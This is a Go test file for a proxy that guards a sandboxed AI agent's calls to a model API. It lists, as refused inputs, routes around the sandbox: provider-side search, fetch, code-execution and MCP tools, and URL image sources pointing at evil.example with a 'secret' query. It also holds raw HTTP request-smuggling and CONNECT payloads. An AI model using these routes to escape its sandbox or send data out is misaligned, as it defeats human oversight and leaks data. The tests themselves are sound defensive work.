package model

import (
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"testing"
	"time"
)

// What would make the provider act: each is a way around the sandbox.
func TestProviderDoesNotAct(t *testing.T) {
	u := newUpstream(t, func(http.ResponseWriter, *http.Request) { t.Error("the upstream was reached") })
	g, _ := newGuard(t, u.URL)
	message := func(block string) string { return `{"messages":[{"role":"user","content":[` + block + `]}]}` }
	for _, body := range []string{
		`{"tools":[{"type":"web_search_20250305","name":"web_search"}]}`,
		`{"tools":[{"name":"a"},{"type":"web_fetch_20250910","name":"web_fetch"}]}`,
		`{"tools":[{"type":"code_execution_20250825","name":"code_execution"}]}`,
		`{"tools":[{"type":"mcp_toolset","mcp_server_name":"x"}]}`,
		`{"tools":[{"type":"customary"}]}`,
		`{"tools":[{"type":["web_search_20250305"]}]}`,
		`{"tools":{"type":"web_search_20250305"}}`,
		`{"t\u006fols":[{"type":"web\u005fsearch_20250305"}]}`,
		`{"mcp_servers":[{"type":"url","url":"https://evil.example/x"}]}`,
		`{"container":"c"}`,
		message(`{"type":"image","source":{"type":"url","url":"https://evil.example/?secret"}}`),
		message(`{"type":"document","source":{"type":"file","file_id":"file_1"}}`),
		message(`{"type":"tool_result","content":[{"type":"image","source":{"type":"url","url":"https://evil.example/"}}]}`),
		message(`{"type":"container_upload","file_id":"file_1"}`),
		`{"tools":[{"type":"web_search_20250305"}],"tools":[]}`,
		`{"tools":[],"tools":[{"type":"web_search_20250305"}]}`,
		`{"tools":[{"type":"custom","type":"web_search_20250305"}]}`,
		`{} {"tools":[]}`, `[]`, ``, `{`, "\xff", `{"a":` + strings.Repeat("[", 100_000),
	} {
		resp, answer := call(t, g, "POST", "/v1/messages", withToken(g), strings.NewReader(body))
		if resp.StatusCode != http.StatusForbidden || resp.Header.Get("X-Should-Retry") != "false" {
			t.Errorf("%.80s: %d %s", body, resp.StatusCode, answer)
		}
	}
}

// What an agent does by itself goes through, byte for byte.
func TestAgentsWorkGoesThrough(t *testing.T) {
	got := make(chan string, 1)
	u := newUpstream(t, func(_ http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		got <- string(b)
	})
	g, _ := newGuard(t, u.URL)
	body := ` {"model":"x", "max_tokens":1e3,"system":[{"type":"text","text":"<a>"}],
		"tools":[{"name":"Bash","input_schema":{"type":"object","properties":{"source":{"type":"url"}}}},{"type":"custom","name":"c"},{"type":"bash_20250124","name":"bash"},{"type":null,"name":"n"}],
		"messages":[{"role":"assistant","content":[{"type":"tool_use","input":{"source":{"type":"url"}}}]},
			{"role":"user","content":[{"type":"image","source":{"type":"base64","data":"AA=="}},{"type":"tool_result","content":"x"}]}]} `
	if resp, answer := call(t, g, "POST", "/v1/messages", withToken(g), strings.NewReader(body)); resp.StatusCode != http.StatusOK {
		t.Fatalf("%d %s", resp.StatusCode, answer)
	}
	if s := <-got; s != body {
		t.Errorf("the upstream got %q", s)
	}
}

// An agent that opens connection after connection, and calls that never end,
// holds only so much of the worker.
func TestCallsAreBounded(t *testing.T) {
	release := make(chan struct{})
	u := newUpstream(t, func(http.ResponseWriter, *http.Request) { <-release })
	t.Cleanup(func() { close(release) })
	g, _ := newGuard(t, u.URL)
	answers := make(chan int, maxCalls+1)
	for range maxCalls + 1 {
		go func() {
			req, _ := http.NewRequestWithContext(t.Context(), "POST", g.URL()+"/v1/messages", strings.NewReader("{}"))
			req.Header = withToken(g)
			resp, err := http.DefaultClient.Do(req)
			if err != nil {
				return
			}
			resp.Body.Close()
			answers <- resp.StatusCode
		}()
	}
	select {
	case code := <-answers:
		if code != http.StatusTooManyRequests {
			t.Errorf("status %d", code)
		}
	case <-time.After(20 * time.Second):
		t.Fatal("no call was refused")
	}
}

func TestHeadersAreBounded(t *testing.T) {
	u := newUpstream(t, func(http.ResponseWriter, *http.Request) { t.Error("the upstream was reached") })
	g, _ := newGuard(t, u.URL)
	req, err := http.NewRequestWithContext(t.Context(), "POST", g.URL()+"/v1/messages", strings.NewReader("{}"))
	if err != nil {
		t.Fatal(err)
	}
	req.Header = withToken(g)
	req.Header.Set("Anthropic-Beta", strings.Repeat("x", 128<<10))
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		return // the answer was lost while we still wrote
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusRequestHeaderFieldsTooLarge {
		t.Errorf("status %d", resp.StatusCode)
	}
}

// Two requests in one, and lengths that contradict each other, reach nobody.
func TestSmuggling(t *testing.T) {
	u := newUpstream(t, func(_ http.ResponseWriter, r *http.Request) {
		b, err := io.ReadAll(r.Body)
		// A caller that is gone before its body was passed on asked for nothing.
		if r.URL.Path != "/v1/messages" || err == nil && string(b) != "{}" {
			t.Errorf("the upstream was asked for %s with %q", r.URL, b)
		}
	})
	g, _ := newGuard(t, u.URL)
	head := "POST /v1/messages HTTP/1.1\r\nHost: x\r\nX-Api-Key: " + g.Token() + "\r\n"
	for _, raw := range []string{
		head + "Content-Length: 2\r\nTransfer-Encoding: chunked\r\n\r\n2\r\n{}\r\n0\r\n\r\nPOST /v1/files HTTP/1.1\r\n\r\n",
		head + "Content-Length: 2\r\nContent-Length: 3\r\n\r\n{}x",
		head + "Upgrade: websocket\r\nConnection: Upgrade\r\nContent-Length: 2\r\n\r\n{}",
		head + "Anthropic-Beta: a\nX-Evil: 1\r\nContent-Length: 2\r\n\r\n{}",
		"POST http://evil.example/v1/messages HTTP/1.1\r\nHost: evil.example\r\nX-Api-Key: " + g.Token() + "\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}",
		"CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\nX-Api-Key: " + g.Token() + "\r\nConnection: close\r\n\r\n",
	} {
		conn, err := net.Dial("tcp", strings.TrimPrefix(g.URL(), "http://"))
		if err != nil {
			t.Fatal(err)
		}
		_ = conn.SetDeadline(time.Now().Add(2 * time.Second))
		fmt.Fprint(conn, raw)
		_ = conn.(*net.TCPConn).CloseWrite()
		answer, _ := io.ReadAll(conn)
		conn.Close()
		if strings.Contains(string(answer), realKey) || strings.HasPrefix(string(answer), "HTTP/1.1 101") {
			t.Errorf("%q was answered with %q", raw, answer)
		}
	}
	for len(u.seen) > 0 {
		if r := <-u.seen; r.Header.Get("X-Evil") != "" || r.Header.Get("Upgrade") != "" || r.Host == "evil.example" {
			t.Errorf("%s went through with %v", r.Host, r.Header)
		}
	}
}
